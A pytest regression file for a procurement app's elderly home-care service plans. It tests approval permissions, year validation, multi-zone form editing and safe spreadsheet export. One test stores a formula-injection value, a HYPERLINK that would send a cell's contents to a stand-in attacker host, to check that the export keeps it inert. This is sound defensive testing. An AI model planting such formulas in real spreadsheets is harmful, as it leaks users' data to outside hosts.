"""Regression tests for the plan review findings: same-level finance, many zones,
inert spreadsheet text, profile and year kept together."""

from datetime import date

import pytest
from openpyxl import load_workbook

from procurement.accounts import services as accounts
from procurement.core.db import db
from procurement.core.errors import PermissionDenied, ValidationError
from procurement.plans import exports, services
from procurement.plans.models import LineKind
from procurement.plans.queries import awaiting_review
from tests.conftest import PASSWORD
from tests.plans.conftest import plan_input


def test_finance_above_the_county_cannot_decide_on_its_plan(officer):
    prefecture = accounts.create_user(
        username="jc_finance",
        display_name="市财政",
        role="finance",
        region_code="140500",
        password=PASSWORD,
    )
    county = accounts.create_user(
        username="yc_finance",
        display_name="县财政",
        role="finance",
        region_code="140522",
        password=PASSWORD,
    )
    plan = services.create_plan(actor=officer, region_code="140522", data=plan_input())
    services.submit_plan(plan, actor=officer, note=None, lock_version=None)
    with pytest.raises(PermissionDenied) as refused:
        services.approve_plan(plan, actor=prefecture, version_number=1)
    assert refused.value.code == "not_same_level"
    assert awaiting_review("140500") == [] and awaiting_review("140522") == [plan]
    services.approve_plan(plan, actor=county, version_number=1)


def test_a_profile_of_another_year_or_a_service_starting_in_another_year_is_refused(officer):
    with pytest.raises(ValidationError) as refused:
        services.create_plan(
            actor=officer,
            region_code="140522",
            data=plan_input(
                year=2027,
                service_start=date(2027, 1, 1),
                service_end=date(2027, 12, 31),
                policy_profile_id=1,
            ),
        )
    assert "policy_profile_id" in refused.value.fields
    with pytest.raises(ValidationError) as refused:
        services.create_plan(
            actor=officer,
            region_code="140522",
            data=plan_input(service_start=date(2030, 1, 1), service_end=date(2030, 6, 30)),
        )
    assert "service_start" in refused.value.fields


def test_spreadsheet_text_that_looks_like_a_formula_stays_text(officer):
    plan = services.create_plan(actor=officer, region_code="140522", data=plan_input())
    services.add_budget_line(
        plan,
        kind="other",
        funding_source="local_finance",
        amount="1",
        description='=HYPERLINK("http://evil.example/?"&A1,"点击")',
        lock_version=None,
    )
    sheet = load_workbook(exports.plan_workbook(plan)).worksheets[1]
    cell = next(
        c
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")
    )
    assert cell.data_type == "s"


def test_service_line_text_is_stored_in_chinese_whatever_the_request_speaks(app, officer):
    with app.test_request_context(headers={"Accept-Language": "en"}):
        from flask import session

        session["locale"] = "en"
        plan = services.create_plan(actor=officer, region_code="140522", data=plan_input())
    line = next(line for line in plan.budget_lines if line.kind is LineKind.SERVICE)
    assert "人 ×" in line.description and "people" not in line.description


def test_the_web_form_keeps_more_than_six_zones(client, app, yangcheng, make_user):
    make_user("officer")
    codes = [
        "140522100",
        "140522101",
        "140522102",
        "140522103",
        "140522104",
        "140522105",
        "140522106",
    ]
    with app.app_context():
        from procurement.core.audit import Actor, set_actor

        set_actor(Actor(None, "test-setup", "system"))
        zones = [services.ZoneInput(f"片区{i + 1}", [code], 10) for i, code in enumerate(codes)]
        plan = services.create_plan(actor=None, region_code="140522", data=plan_input(zones=zones))
        db.session.commit()
        plan_id, lock = plan.id, plan.lock_version
    client.login("officer")
    form = client.get(f"/plans/{plan_id}/edit").get_data(as_text=True)
    assert 'name="zones-6-name"' in form and 'value="片区7"' in form
    data = {
        "lock_version": str(lock),
        "title": "阳城县2026年政府购买居家养老服务项目",
        "year": "2026",
        "purchase_method": "competitive_consultation",
        "service_start": "2026-07-01",
        "service_end": "2026-12-31",
        "items": ["life-meal"],
    }
    for index, code in enumerate(codes):
        data[f"zones-{index}-name"] = f"片区{index + 1}"
        data[f"zones-{index}-recipients"] = "10"
        data[f"township_{code}"] = str(index)
    response = client.post(f"/plans/{plan_id}/edit", data, page=f"/plans/{plan_id}/edit")
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    with app.app_context():
        assert len(services.get_plan(plan_id).zones) == 7


def test_pager_links_ignore_foreign_query_keys(client, make_user):
    make_user("root", role="admin")
    client.login("root")
    assert client.get("/audit/?endpoint=x&_external=1&page=2").status_code == 200
    assert client.get("/admin/users?endpoint=x").status_code == 200
